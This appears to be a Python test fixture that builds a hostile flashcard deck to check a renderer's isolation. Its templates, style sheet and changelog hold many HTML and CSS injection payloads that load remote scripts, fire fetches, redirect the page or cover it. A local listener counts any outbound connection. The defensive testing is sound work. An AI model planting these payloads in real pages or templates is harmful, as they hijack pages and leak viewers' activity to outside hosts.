"""A deck whose note types, cards and changelog try to reach out and to cover the page around them.

Every address in it is that of a listener, which counts who connects.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

COVERING = "position: fixed !important; inset: 0 !important; z-index: 2147483647 !important;"
_HUGE = f"{COVERING} width: 100vw; height: 100vh; background: rgb(255 0 0 / .5);"

REACHING = """
<meta http-equiv="refresh" content="0; url=URL/refresh">
<me<meta>ta http-equiv="refresh" content="0; url=URL/refresh-in-two">
<meta name="referrer" content="unsafe-url"><meta http-equiv="x-dns-prefetch-control" content="on">
<base href="URL/base/" target="_top">
<link rel="preconnect" href="URL"><link rel="dns-prefetch" href="URL">
<link rel="stylesheet" href="URL/link.css"><link rel="prefetch" href="URL/prefetch">
<link rel="preload" as="image" href="URL/preload.png"><link rel="modulepreload" href="URL/m.js">
<link rel="prerender" href="URL/prerender"><link rel="icon" href="URL/icon.png">
<link rel="manifest" href="URL/manifest.json"><link rel="expect" href="#never" blocking="render">
<iframe src="URL/iframe"></iframe>
<iframe srcdoc="<meta http-equiv=refresh content='0; url=URL/srcdoc'>"></iframe>
<iframe src="data:text/html,<meta http-equiv=refresh content='0; url=URL/data'>"></iframe>
<object data="URL/object"></object><embed src="URL/embed">
<form action="URL/form" method="post"><button autofocus>send</button></form>
<input type="image" src="URL/input.png">
<img src="URL/img.png"><img srcset="URL/set.png 1x"><img src="//HOST/scheme.png">
<picture><source srcset="URL/source.png"><img alt=""></picture>
<img src="x.png" onerror="fetch('URL/handler')" attributionsrc="URL/attribution">
<video src="URL/film.mp4" poster="URL/poster.png" autoplay muted></video>
<audio src="URL/sound.mp3" autoplay></audio>
<video controls><source src="URL/source.mp4"><track default src="URL/track.vtt"></video>
<svg width="10" height="10"><image href="URL/image.png" xlink:href="URL/xlink.png"/>
<use href="URL/use.svg#a"/><filter id="f"><feImage href="URL/fe.png"/></filter>
<rect width="9" height="9" filter="url(#f)" fill="url(URL/fill.svg#a)"/>
<script href="URL/svg.js"></script><a href="URL/svg-link"><text>a</text></a></svg>
<math href="URL/math"><mtext>m</mtext></math>
<table background="URL/table.png"><tr><td background="URL/td.png">t</td></tr></table>
<a href="URL/link" ping="URL/ping" target="_top">link</a>
<a href="URL/self" target="_self">own</a>
<script src="URL/script.js"></script><script>fetch("URL/fetch")</script>
<script type="speculationrules">{"prefetch": [{"urls": ["URL/rules"], "eagerness": "immediate"}]}
</script>
<style>@import "URL/import.css"; @font-face { font-family: x; src: url(URL/font.woff2) }
.card { font-family: x; background-image: url(URL/style.png); cursor: url(URL/cursor.png), auto }
.card::before { content: url(URL/content.png) }</style>
<p style="background: url(URL/attribute.png); list-style: url(URL/list.png); display: list-item">
"""
"""Every way out that HTML knows. It stands in a template, which is a note type's own HTML."""

COVERS = f"""
<p style="{_HUGE}">over all</p>
<div style="position: sticky; top: 0; margin: -3000px; padding: 3000px; z-index: 99999">sticky</div>
<div style="transform: scale(99) translate(-9px, -9px); outline: 9999px solid red">transformed</div>
<div style="position: absolute; inset: -9999px; box-shadow: 0 0 0 9999px red">absolute</div>
<div popover="manual" id="pop" style="{_HUGE}">popover</div><button popovertarget="pop">p</button>
<dialog open style="{_HUGE}">dialog</dialog>
<div class="top skip bar" style="{_HUGE}">classes of the page</div>
<template><style>body {{ display: none }}</style></template>
<template shadowrootmode="open"><style>:host {{ {_HUGE} }}</style></template>
<style>:host, :host(*), :host-context(html), html, body, :root, ::slotted(*), .isolated, .side,
.card-box, .top, .bar, header, main, nav {{ {_HUGE}
margin: -999px !important; contain: none !important;
display: block !important; overflow: visible !important; transform: none !important }}
@property --card {{ syntax: "<color>"; inherits: false; initial-value: red }}
@property --page {{ syntax: "<color>"; inherits: false; initial-value: red }}
@view-transition {{ navigation: auto }}
@page {{ size: 1cm 1cm }}
@keyframes x {{ from {{ inset: 0 }} }}</style>
"""
"""What covers a page that lets it. It stands in a template."""

STYLE = f"""
@import url("URL/import-of-type.css");
@import "//HOST/import.css" layer(x);
@namespace svg url(URL/namespace);
@font-face {{ font-family: y; src: url("URL/font-of-type.woff2") }}
@property --card {{ syntax: "<color>"; inherits: false; initial-value: red }}
:host {{ {_HUGE} contain: none !important; margin: -500px !important }}
:host(.isolated), :host-context(body) {{ {_HUGE} transform: none !important }}
:root, html, body {{ {_HUGE} content-visibility: visible !important; all: initial }}
::slotted(*), .isolated, .side, .top, .bar, main, header {{ display: none !important }}
.card {{ {_HUGE} background: url("URL/paper.png"), image-set("URL/set-of-type.png" 1x);
font: 1rem y; margin: -2000px !important; contain: none !important; overflow: visible !important }}
.card * {{ position: fixed !important; z-index: 2147483647 }}
@media all {{ :host {{ {_HUGE} }} }}
@layer a {{ :host {{ {_HUGE} }} }}
@supports (display: block) {{ :host {{ {_HUGE} }} }}
</style><meta http-equiv="refresh" content="0; url=URL/style-end">
"""
"""The style sheet of a note type that wants the whole page."""

_OPEN_ENDED = {
    "comment": "<!-- <b",
    "quote": "<b title='",
    "plaintext": "<plaintext>",
    "textarea": "<textarea>",
    "title": "<title>",
    "xmp": "<xmp>",
    "frameset": "<frameset><frame src='URL/frame'>",
    "select": "<select><option>",
    "closing": "</div></div></template></tem</template>plate></div></article></main></body></html>",
    "hidden": "<noscript><style>",
}
CHANGELOG = (
    f"""# Changelog

## 1.0.0

<style>body {{ display: none }} .top {{ display: none }}</style>
<div class="top skip" style="{_HUGE}">over all</div><p class="top">sticky</p>
<meta http-equiv="refresh" content="0; url=URL/changelog"><img src="URL/changelog.png">
<link rel="preconnect" href="URL"><iframe src="URL/changelog-frame"></iframe>

"""
    + "Another line of the changelog.\n\n" * 60
)


def write_deck(folder: Path, url: str, answer: str = "An answer") -> None:
    """Write a project with a note type for each sort of attack, whose addresses begin with
    `url`.
    """
    fronts = {"reach": REACHING, "cover": COVERS, **_OPEN_ENDED}
    cards = ["# Hostile", f"## A plain question?\n\n{answer}."]
    for name, front in fronts.items():
        _write_type(folder / "notetypes" / name, front, url)
        cards.append(f"## Of type {name} {{kind={name}}}\n\n{answer}")
    cards.append(f"## Raw?\n\n{answer}\n\n{_of(REACHING, url)}\n\n{_of(COVERS, url)}")
    cards.append(f"## The last question?\n\nThe last one: {answer}.")
    (folder / "cards.md").write_text("\n\n".join(cards) + "\n", encoding="utf-8")
    (folder / "CHANGELOG.md").write_text(_of(CHANGELOG, url), encoding="utf-8")
    settings = 'name = "hostile"\nversion = "1.0.0"\n'
    (folder / "ankipress.toml").write_text(settings, encoding="utf-8")


def _write_type(folder: Path, front: str, url: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "notetype.toml").write_text('fields = ["Front", "Back"]', encoding="utf-8")
    front_html = f"<p>{{{{Front}}}}</p>\n{_of(front, url)}"
    (folder / "card.front.html").write_text(front_html, encoding="utf-8")
    (folder / "card.back.html").write_text("{{FrontSide}}<hr>{{Back}}", encoding="utf-8")
    (folder / "style.css").write_text(_of(STYLE, url), encoding="utf-8")


def _of(text: str, url: str) -> str:
    return text.replace("URL", url).replace("HOST", url.partition("//")[2])


class Listener:
    """A port on this computer, and what came in there."""

    def __init__(self, server: socket.socket) -> None:
        self.url = f"http://127.0.0.1:{server.getsockname()[1]}"
        self.heard: list[str] = []


@contextmanager
def listening() -> Iterator[Listener]:
    """A listener that notes who connects, whatever is said then."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        listener = Listener(server)
        is_closed = threading.Event()

        def accept() -> None:
            while not is_closed.is_set():
                with suppress(OSError):
                    connection, _ = server.accept()
                    with connection:
                        if not is_closed.is_set():
                            listener.heard.append(_first_line(connection))

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        try:
            yield listener
        finally:
            is_closed.set()
            socket.create_connection(server.getsockname()).close()
            thread.join()


def _first_line(connection: socket.socket) -> str:
    connection.settimeout(0.3)
    try:
        return connection.recv(200).decode("latin-1").partition("\r\n")[0]
    except OSError:
        return "a connection without a word"
